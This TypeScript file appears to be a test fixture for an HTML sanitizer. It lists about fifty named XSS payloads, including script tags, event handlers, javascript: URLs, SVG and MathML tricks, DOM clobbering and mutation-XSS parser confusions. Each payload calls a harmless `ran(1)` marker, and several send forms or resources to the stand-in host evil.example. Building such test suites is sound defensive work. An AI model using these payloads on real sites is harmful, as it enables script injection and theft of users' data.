// XSS payloads that call `ran` when they execute: scripts, event handlers, javascript: URLs, foreign content,
// DOM clobbering and mutation XSS.

export const htmlPayloads: Record<string, string> = {
  script: '<script>ran(1)</script>',
  'script in pieces': '<scr<script>ipt>ran(1)</scr</script>ipt>',
  'script of another file': '<script src="/images/x.js"></script>',
  'image handler': '<img src=x onerror="ran(1)">',
  'own image handler': '<img src="/images/none" onerror="ran(1)">',
  'handler after a slash': '<img/src=x/onerror="ran(1)">',
  'handler of a paragraph':
    '<p onpointerenter="ran(1)" onfocus="ran(1)" tabindex=0 autofocus>text</p>',
  'handler of details': '<details open ontoggle="ran(1)">text</details>',
  'handler of media':
    '<video src=x onerror="ran(1)"></video><audio src=x onerror="ran(1)"></audio>',
  'handler of an animation': '<b style="animation-name:tide" onanimationstart="ran(1)">b</b>',
  'script address': '<a href="javascript:ran(1)">link</a>',
  'script address, disguised': '<a href=" &#1; jAvA&#x09;sc&NewLine;ript:ran(1)">link</a>',
  'data address': '<a href="data:text/html,<script>opener.ran(1)</script>">link</a>',
  'data picture': `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='ran(1)'/>">`,
  frame: '<iframe srcdoc="<script>parent.ran(1)</script>"></iframe>',
  'frame of an address': '<iframe src="javascript:parent.ran(1)"></iframe>',
  'object and embed': '<object data="javascript:ran(1)"></object><embed src="javascript:ran(1)">',
  'vector picture': '<svg onload="ran(1)"><script>ran(1)</script></svg>',
  'vector animation':
    '<svg><a><animate attributeName=href values="javascript:ran(1)"/><text y=9>x</text></a></svg>',
  'vector use': `<svg><use href="data:image/svg+xml,<svg id='x' onload='ran(1)'/>#x"/></svg>`,
  formula:
    '<math><maction actiontype="statusline" xlink:href="javascript:ran(1)">x</maction></math>',
  'form that leaves':
    '<form action="https://evil.example"><input name=q><button>Send</button></form>',
  'button that runs': '<button formaction="javascript:ran(1)">Send</button>',
  base: '<base href="https://evil.example/">text',
  refresh: '<meta http-equiv="refresh" content="0;url=javascript:ran(1)">text',
  'style sheet':
    '<style>*{display:none}</style><link rel=stylesheet href="https://evil.example/a.css">',
  'style attribute':
    '<p style="position:fixed;inset:0;background:url(https://evil.example/a)">text</p>',
  'clobbering a form': '<form id=x><input id=attributes><input name=childNodes>text</form>',
  'clobbering the document':
    '<img name=cookie><a id=location href="/directory">link</a><p id=ran>x</p>',
  'classes of the page':
    '<p class="no-print" data-testid="store-card" aria-hidden=true role=alert>text</p>',
  template: '<template><script>ran(1)</script></template>',
  shadow: '<div><template shadowrootmode=open><script>ran(1)</script></template></div>',
  noscript: '<noscript><p title="</noscript><img src=x onerror=ran(1)>"></noscript>',
  comment: '<!--><img src=x onerror="ran(1)">-->',
  'comment, other end': '<!-- --!><img src=x onerror="ran(1)">-->',
  'raw text': '<xmp><p title="</xmp><img src=x onerror=ran(1)>">',
  'raw text of a listing': '<listing><p title="</listing><img src=x onerror=ran(1)>"></listing>',
  'raw text to the end': '<plaintext><p title="</plaintext><img src=x onerror=ran(1)>">',
  'text area': '<textarea><p title="</textarea><img src=x onerror=ran(1)>">',
  'mutation by style in formula':
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=ran(1)&gt;">',
  'mutation by style in svg': '<svg></p><style><a id="</style><img src=1 onerror=ran(1)>">',
  'mutation by nested forms':
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=ran(1)>',
  'mutation by title in svg': '<svg><title><style></title><img src=x onerror=ran(1)></style>',
  'mutation by annotation':
    '<math><annotation-xml encoding="text/html"><style><img src=x onerror=ran(1)></style></annotation-xml></math>',
  'mutation by depth': `${'<div>'.repeat(600)}<img src=x onerror="ran(1)">`,
  'unknown element': '<custom-thing onclick="ran(1)">text</custom-thing>',
  'processing instruction':
    '<?xml version="1.0"?><p>text</p><![CDATA[<img src=x onerror=ran(1)>]]>',
}
